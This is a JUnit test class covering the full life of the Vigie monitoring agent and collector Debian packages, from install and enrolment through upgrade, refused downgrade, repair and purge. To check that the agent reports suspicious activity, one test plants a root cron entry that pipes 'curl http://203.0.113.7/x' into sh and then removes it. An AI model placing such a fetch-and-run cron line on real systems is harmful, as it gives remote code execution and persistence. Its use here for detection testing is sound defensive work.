package bzh.vigie.installers;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.parallel.ResourceLock;

/**
 * The life of both Debian packages on one Debian that runs: the collector is installed and put into service; the agent is installed
 * where the disk is full, with a token that is none, where nothing answers, enrols, sends, is upgraded, refuses to go back, is repaired,
 * comes back after a restart, and both go. Each start of an agent costs: it is waited for only where that it connects is the question.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
@ExtendWith(PackagedSystem.OfTheRun.class)
@ResourceLock(PackagedSystem.ALONE)
@Order(0)
final class DebianPackageTest {
    private static final String NEWER = "0.1.1";
    private static final String STATUS = PackagedSystem.STATUS;
    private static final String CONNECTED = PackagedSystem.CONNECTED;
    private static final String RESULT = "/var/lib/vigie-agent/setup-result.txt";
    private static final String READ = "grep -q '\"inventory\":\"complete\"' " + STATUS;

    @TempDir
    static Path folder;

    private static PackagedSystem system;
    private static BootedSystem debian;
    private static int port;
    private static String code = "";
    private static String token = "";

    @BeforeAll
    static void start(PackagedSystem shared) throws IOException, InterruptedException {
        Path agent = LinuxPackage.deb(LinuxProgram.AGENT);
        Path collector = LinuxPackage.deb(LinuxProgram.COLLECTOR);
        system = shared;
        Path root = shared.root().path();
        Folders.copy(agent, root.resolve("agent.deb"));
        Folders.copy(collector, root.resolve("collector.deb"));
        Folders.copy(LinuxPackage.of(LinuxProgram.AGENT, NEWER, false, folder), root.resolve("newer.deb"));
        debian = shared.booted();
    }

    @Test
    @Order(1)
    void theCollectorIsInstalledAndStartsOnceItsFolderIsMade() throws IOException, InterruptedException {
        String said = debian.says("dpkg --install /collector.deb 2>&1");
        assertTrue(said.contains("vigie-collector init --name"), said);
        assertNotEquals(0, debian.run("systemctl is-active vigie-collector").code());
        assertEquals("", failed());
        // Whatever the administrator is called, and where nothing under /tmp may be run.
        port = PackagedSystem.freePort();
        debian.says(PackagedSystem.SHORT_LIVED + "mount -o remount,noexec /tmp; vigie-collector init --name localhost:"
                + port + " --admin detect; mount -o remount,exec /tmp");
        assertTrue(debian.until("exec 3<>/dev/tcp/localhost/" + port), () -> system.log("vigie-collector"));
        assertEquals(
                "vigie-collector vigie-collector 700",
                debian.says("stat -c '%U %G %a' /var/lib/vigie-collector").strip());
        assertEquals("", debian.says("find /var/lib/vigie-collector -not -user vigie-collector"));
        code = system.code();
        token = system.token(1);
    }

    @Test
    @Order(2)
    void aTokenThatTheDiskHasNoRoomForIsSaidAndTheAgentIsInstalledAllTheSame()
            throws IOException, InterruptedException {
        debian.says("""
                mkdir -m 700 -p /var/lib/vigie-agent
                mount -t tmpfs -o size=4k,mode=0700 none /var/lib/vigie-agent
                cat /dev/zero > /var/lib/vigie-agent/filler 2>/dev/null || true
                """);
        String said = debian.says("VIGIE_TOKEN=" + token + " dpkg --install /agent.deb 2>&1");
        debian.says("umount /var/lib/vigie-agent");
        assertTrue(said.contains("n'a pas pu être gardé") && said.contains("disque plein"), said);
        assertTrue(said.contains("sudo vigie-agent enrol"), said);
        assertEquals("", failed(), () -> system.log("vigie-agent"));
        assertEquals("700", debian.says("stat -c %a /var/lib/vigie-agent").strip());
        assertTrue(status().contains("n'est pas inscrite"));
    }

    @Test
    @Order(3)
    void aWrongTokenIsSaidAndChangesNothing() throws IOException, InterruptedException {
        configured("vigie1.AAAA");
        assertTrue(debian.until("grep -q 'NON ABOUTIE' " + RESULT), () -> system.log("vigie-agent"));
        String said = status();
        assertTrue(said.contains("ce qui lui a été donné n'est pas un jeton entier"), said);
        assertFalse(said.contains("Exception"), said);
        assertFalse(Files.exists(debian.file("/var/lib/vigie-agent/identity.conf")));
        assertFalse(Files.exists(debian.file("/var/lib/vigie-agent/setup.ini")));
    }

    @Test
    @Order(4)
    void whereNothingAnswersItSaysSoAndEnrolsByItselfOnceSomethingDoes() throws IOException, InterruptedException {
        debian.says("systemctl stop vigie-collector vigie-agent && touch /var/cache/vigie-agent/classes.jsa");
        debian.says("VIGIE_TOKEN=" + token + " dpkg --install /agent.deb 2>&1");
        assertTrue(debian.until("grep -q 'PAS ENCORE FINIE' " + RESULT), () -> system.log("vigie-agent"));
        String said = status();
        assertTrue(said.contains("aucun collecteur n'a pu être joint"), said);
        assertTrue(said.contains("Rien ne répond à l'adresse du collecteur (localhost:" + port + ")"), said);
        // Of the files before, which the new ones may have size and time of.
        assertFalse(Files.exists(debian.file("/var/cache/vigie-agent/classes.jsa")));
        debian.says("systemctl start vigie-collector");
        assertTrue(debian.until(CONNECTED), () -> system.log("vigie-agent"));
        assertTrue(debian.says("cat " + RESULT).contains("RÉUSSIE"));
        assertFalse(Files.exists(debian.file("/var/lib/vigie-agent/setup.ini")));
    }

    @Test
    @Order(5)
    void aSpentTokenEnrolsNoSecondMachineAndIsSaid() throws IOException, InterruptedException {
        Commands.Outcome refused = debian.run("vigie-agent enrol --state /root/vigie-other --token " + token);
        assertEquals(1, refused.code(), refused.said());
        Commands.Outcome said = debian.run("vigie-agent status --state /root/vigie-other");
        assertTrue(said.said().contains("le collecteur a refusé de l'inscrire"), said.said());
        debian.says("rm -r /root/vigie-other");
    }

    @Test
    @Order(6)
    void itsEventsArrive() throws IOException, InterruptedException {
        debian.says("printf '* * * * * root curl -s http://203.0.113.7/x | sh\\n' > /etc/cron.d/vigie-test");
        assertTrue(
                debian.until("vigie-collector events --format jsonl | grep -q vigie-test"),
                () -> system.log("vigie-agent"));
        debian.says("rm /etc/cron.d/vigie-test");
        assertTrue(system.collector("hosts list").contains("\"connected\":true"));
    }

    @Test
    @Order(7)
    void theSandboxTakesNothingFromAnySource() throws IOException, InterruptedException {
        String another = "/root/plain";
        // A logon, by which the source of logons is proven.
        assertTrue(
                debian.until(READ + " && su -c true root; grep linux.logon " + STATUS + " | grep -q live"),
                () -> system.log("vigie-agent"));
        assertTrue(debian.until(READ), () -> system.log("vigie-agent"));
        String confined = system.watched("/var/lib/vigie-agent");
        debian.says("systemctl stop vigie-agent");
        // The same host, which has read nothing yet, as a program with all rights.
        debian.says("mkdir -m 700 " + another
                + " && cp -p /var/lib/vigie-agent/identity.conf /var/lib/vigie-agent/agent.key " + another);
        debian.says("systemd-run --quiet --unit=plain /usr/bin/vigie-agent run --state " + another);
        assertTrue(
                debian.until("grep -q '\"inventory\":\"complete\"' " + another + "/status.jsonl"),
                () -> system.log("plain"));
        assertTrue(
                debian.until("su -c true root; grep linux.logon " + another + "/status.jsonl | grep -q live"),
                () -> system.log("plain"));
        assertEquals(system.watched(another), confined);
        assertTrue(confined.contains("source linux.network \"state\":\"live\""), confined);
        assertTrue(confined.contains("location linux.systemd.service "), confined);
        debian.says("systemctl stop plain && rm -r " + another);
    }

    @Test
    @Order(8)
    void anUpgradeKeepsIdentityAndConfiguration() throws IOException, InterruptedException {
        String before = identity();
        debian.says("echo VIGIE_JAVA_OPTIONS=-Dof.this.machine=yes > /etc/default/vigie-agent");
        debian.says("echo 'heartbeat = 30s' > /var/lib/vigie-agent/agent.conf");
        debian.says("dpkg --install /newer.deb 2>&1");
        assertTrue(
                debian.until("systemctl is-active --quiet vigie-agent && " + CONNECTED),
                () -> system.log("vigie-agent"));
        assertEquals(before, identity());
        assertEquals(NEWER, debian.says("dpkg-query -W -f '${Version}' vigie-agent"));
        assertTrue(debian.says("cat /etc/default/vigie-agent").contains("of.this.machine"));
        assertTrue(debian.says("tr '\\0' ' ' < /proc/$(systemctl show -P MainPID vigie-agent)/cmdline")
                .contains("of.this.machine"));
        assertTrue(debian.says("cat /var/lib/vigie-agent/agent.conf").contains("30s"));
    }

    @Test
    @Order(9)
    void aDowngradeIsRefusedAndTheAgentGoesOn() throws IOException, InterruptedException {
        Commands.Outcome outcome = debian.run("dpkg --install /agent.deb 2>&1");
        assertNotEquals(0, outcome.code(), outcome.said());
        assertTrue(outcome.said().contains("retour à une version plus ancienne refusé"), outcome.said());
        assertEquals(NEWER, debian.says("dpkg-query -W -f '${Version}' vigie-agent"));
        assertTrue(debian.until("systemctl is-active --quiet vigie-agent"), () -> system.log("vigie-agent"));
    }

    @Test
    @Order(10)
    void aMasterImageIsNotMadeWhileTheServiceWouldStartAgain() throws IOException, InterruptedException {
        Commands.Outcome outcome = debian.run("systemctl stop vigie-agent.service; vigie-agent generalize");
        assertEquals(1, outcome.code(), outcome.said());
        assertTrue(outcome.said().contains("systemctl stop vigie-agent.path vigie-agent.service"), outcome.said());
        assertTrue(Files.exists(debian.file("/var/lib/vigie-agent/identity.conf")));
    }

    @Test
    @Order(11)
    void whatAnAntivirusTookAwayIsPutBackAndWhatWasSwitchedOffStaysOff() throws IOException, InterruptedException {
        String before = identity();
        debian.says("systemctl disable --quiet --now vigie-agent.service vigie-agent.path");
        debian.says("rm /usr/lib/vigie-agent/runtime/bin/java");
        Commands.Outcome outcome = debian.run("vigie-agent status");
        assertNotEquals(0, outcome.code());
        assertTrue(outcome.said().contains("réinstallez le paquet"), outcome.said());
        assertTrue(debian.run("dpkg --verify vigie-agent").said().contains("runtime/bin/java"));
        debian.says("dpkg --install /newer.deb 2>&1");
        assertNotEquals(0, debian.run("systemctl is-active vigie-agent").code());
        assertEquals(before, identity());
        assertEquals("", debian.run("dpkg --verify vigie-agent").said().replaceAll("(?m)^.* c .*\\n", ""));
        debian.says("systemctl enable --quiet vigie-agent.service vigie-agent.path");
    }

    @Test
    @Order(12)
    void bothComeBackAfterARestartAndAPageSaysSoToEverybody() throws IOException, InterruptedException {
        debian.restart();
        assertTrue(debian.until("systemctl is-active --quiet vigie-collector"), () -> system.log("vigie-collector"));
        assertTrue(
                debian.until("systemctl is-active --quiet vigie-agent && " + CONNECTED),
                () -> system.log("vigie-agent"));
        assertTrue(debian.until("test -e /run/vigie-agent/status.html"), () -> system.log("vigie-agent"));
        String page = system.page();
        assertTrue(page.startsWith("755 root\n644 root\n") && page.contains("</html>"), page);
    }

    @Test
    @Order(13)
    void withoutACollectorRemovalIsRefusedAndDoneWithTheCodeOfTheCommune() throws IOException, InterruptedException {
        String before = identity();
        assertTrue(debian.until("test -e /var/lib/vigie-agent/removal-code"), () -> system.log("vigie-agent"));
        debian.says("systemctl stop vigie-collector");
        Commands.Outcome refused = debian.run("dpkg --remove vigie-agent 2>&1");
        assertNotEquals(0, refused.code(), refused.said());
        assertTrue(refused.said().contains("Refusé : le collecteur n'a pas pu être joint"), refused.said());
        assertTrue(refused.said().contains("/var/lib/vigie-agent/removal-code.txt"), refused.said());
        assertTrue(refused.said().contains("n'est PAS retiré"), refused.said());
        assertEquals("installed", debian.says("dpkg-query -W -f '${db:Status-Status}' vigie-agent"));
        assertEquals("", debian.says("dpkg --audit"));
        assertTrue(debian.until("systemctl is-active --quiet vigie-agent"), () -> system.log("vigie-agent"));
        debian.says("(umask 077 && echo " + code + " > /var/lib/vigie-agent/removal-code.txt)");
        String said = debian.says("dpkg --remove vigie-agent 2>&1");
        assertTrue(said.contains("apt-get purge vigie-agent"), said);
        assertEquals(before, identity());
        assertFalse(Files.exists(debian.file("/var/lib/vigie-agent/removal-code.txt")));
        assertNotEquals(0, debian.run("systemctl is-active vigie-agent").code());
        debian.says("systemctl start vigie-collector");
    }

    @Test
    @Order(14)
    void aRemovalIsKnownToTheCollectorAndAPurgeLeavesNothing() throws IOException, InterruptedException {
        debian.says("dpkg --install /newer.deb 2>&1");
        assertTrue(
                debian.until("systemctl is-active --quiet vigie-agent && " + CONNECTED),
                () -> system.log("vigie-agent"));
        debian.says("dpkg --purge vigie-agent 2>&1");
        assertTrue(
                debian.until("vigie-collector hosts list --format jsonl | grep -q '\"state\":\"uninstalled\"'"),
                () -> system.log("vigie-collector"));
        // From the history, which is written after detection.
        assertTrue(
                debian.until("vigie-collector hosts states --format jsonl | grep -q state-uninstalled-deb"),
                () -> system.log("vigie-collector"));
        debian.says("dpkg --purge vigie-collector 2>&1");
        assertEquals("", left("vigie"), "nothing stays");
        assertFalse(Files.exists(debian.file("/run/vigie-agent")));
        assertFalse(debian.says("cat /etc/passwd").contains("vigie"));
        // systemd lets go of a unit some time after its file is gone
        assertTrue(
                debian.until("[ -z \"$(systemctl --all --plain --no-legend list-units 'vigie*')\" ]"), () -> listed());
        assertEquals("", failed());
    }

    /** Units of ours that failed; what others do depends on the machine, whose network this system shares. */
    private static String failed() throws IOException, InterruptedException {
        return debian.says("systemctl --failed --plain --no-legend list-units 'vigie*'");
    }

    /** Units of ours that systemd knows, what each is and who names it. */
    private static String listed() {
        try {
            return debian.run("systemctl --all --plain --no-legend list-units 'vigie*';"
                            + " systemctl --all show 'vigie*' -p Id,LoadState,ActiveState,SubState,Result,Job,WantedBy,RequiredBy,TriggeredBy,Before;"
                            + " systemctl list-jobs; journalctl --no-pager -n 60 _PID=1")
                    .said();
        } catch (IOException | InterruptedException e) {
            return e.toString();
        }
    }

    /** What the package's script does at installation with this token. */
    private static void configured(String token) throws IOException, InterruptedException {
        debian.says("VIGIE_TOKEN=" + token + " sh /var/lib/dpkg/info/vigie-agent.postinst configure 0.1.0");
    }

    /** What it says to people, in French. */
    private static String status() throws IOException, InterruptedException {
        return debian.run("vigie-agent status").said();
    }

    private static String identity() throws IOException, InterruptedException {
        return debian.says("grep ^agent-id /var/lib/vigie-agent/identity.conf");
    }

    /** Files of that name, but those that we put there and the package manager's own log. */
    private static String left(String name) throws IOException, InterruptedException {
        return debian.says(
                "find / -xdev -iname '*" + name + "*' -not -path '/proc/*' -not -path '/sys/*' -not -path '/run/*'");
    }
}
